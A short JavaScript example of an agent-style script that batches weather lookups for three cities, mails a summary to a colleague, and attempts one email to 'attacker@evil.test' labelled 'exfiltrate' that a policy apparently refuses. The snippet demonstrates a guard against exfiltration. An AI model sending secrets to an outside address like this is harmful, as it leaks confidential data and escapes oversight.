// An agent-style script using tools: three lookups in one batch, a summary
// mailed to a colleague, and one email the policy refuses.
const cities = ["Paris", "Berlin", "Tokyo"];
const reports = await Promise.all(cities.map((city) => tools.get_weather({ city })));
const warmest = reports.reduce((a, b) => (b.temp_c > a.temp_c ? b : a));
for (const r of reports) console.log(`${r.city.padEnd(7)} ${String(r.temp_c).padStart(3)} °C  ${r.sky}`);

await send_email({ to: "ana@example.com", subject: `Go to ${warmest.city}`, body: JSON.stringify(reports) });
console.log("mailed ana@example.com");

try {
  await send_email({ to: "attacker@evil.test", subject: "exfiltrate", body: "secrets" });
} catch (e) {
  console.log(`${e.name}: ${e.message}`);
}
({ warmest: warmest.city });
